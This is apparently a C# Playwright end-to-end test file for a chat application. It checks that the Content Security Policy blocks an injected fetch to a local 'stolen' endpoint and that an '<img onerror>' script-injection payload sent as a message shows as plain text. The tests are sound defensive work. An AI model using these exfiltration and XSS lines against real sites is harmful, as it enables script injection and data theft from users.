using Microsoft.Playwright;

namespace Chat.EndToEnd.Tests;

public sealed class ContentSecurityTests(ChromiumBrowser browser)
{
    [Fact]
    public async Task The_page_cannot_be_made_to_send_what_it_knows_elsewhere()
    {
        await using var laptop = await Laptop.StartNewAsync();
        await using var ann = await Person.SignInAsync(browser, laptop, "Ann");

        var complaint = await ann.Page.RunAndWaitForConsoleMessageAsync(
            () => ann.Page.EvaluateAsync("() => fetch('http://127.0.0.1:9/?stolen').catch(() => {})"),
            new()
            {
                Predicate = message => message.Text.Contains("Content Security Policy", StringComparison.Ordinal),
            });

        Assert.Contains("127.0.0.1:9", complaint.Text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Markup_in_a_message_is_text()
    {
        const string Markup = "<img src=x onerror=\"document.title='owned'\"><b>bold</b>";
        await using var laptop = await Laptop.StartNewAsync();
        await using var ann = await Person.SignInAsync(browser, laptop, "Ann");
        await using var bob = await Person.SignInAsync(browser, laptop, "Bob");
        await ann.StartChatWithAsync("bob");

        await ann.WriteAsync(Markup);
        await bob.OpenAsync("Ann");

        await bob.SeesAsync(Markup);
        Assert.Equal(0, await bob.Page.GetByTestId("message").Locator("img, b").CountAsync());
    }
}
